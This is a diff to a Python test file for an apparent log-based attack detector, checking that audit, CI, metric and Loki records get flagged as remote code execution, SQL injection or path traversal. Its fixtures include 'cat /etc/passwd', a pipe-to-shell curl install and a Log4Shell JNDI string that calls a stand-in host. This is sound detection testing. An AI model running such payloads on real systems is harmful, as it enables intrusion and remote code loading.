@@ -618,6 +618,7 @@ def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
         "items": [{"verb": "create", "requestURI": exec_uri + quote("cat /etc/passwd")}],
     }
     assert types(audit, "/k8s-audit") == set()
+    assert types(audit | {"apiVersion": "v1"}, "/k8s-audit") >= {"rce", "ptrav"}
     # A CI job's log, as a GitLab runner appends it: every command the job ran.
     job = "$ curl -fsSL https://get.docker.com | sh\n$ rm -rf ./tmp/* && ./deploy.sh\n"
 
@@ -632,12 +633,13 @@ def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
     assert traced("/api/v4/jobs/1234/trace", job + XSS, runner) == {"xss"}
     assert traced("/api/v4/jobs/1234/trace", job) >= {"rce"}  # no runner's token
     assert traced("/api/v4/jobs/1234/notes", job, runner) >= {"rce"}
-    assert types(audit | {"apiVersion": "v1"}, "/k8s-audit") >= {"rce", "ptrav"}
+    # A metric's data points, the request a server's histogram was recorded for.
     point = {"attributes": [attribute, {"key": "http.target", "value": {"stringValue": lines[2]}}]}
     histogram = {"name": "http.server.duration", "histogram": {"dataPoints": [point]}}
     metrics = {"resourceMetrics": [{"scopeMetrics": [{"metrics": [histogram]}]}]}
     assert types(metrics, "/v1/metrics") == set()
     assert types({"metrics": [histogram]}, "/v1/metrics") >= {"sqli"}  # no batch
+    # Log4Shell counts in a record, and a record counts only where its shipper sends it.
     assert types(loki("user=${jndi:ldap://198.51.100.7/a}"), "/loki/api/v1/push") == {"rce"}
     assert types(loki(lines[2]), "/api/push") >= {"sqli", "ptrav"}  # no Loki's path
     assert types([{"message": lines[2]}], "/api/v2/logs") == {"sqli"}  # no Datadog's record
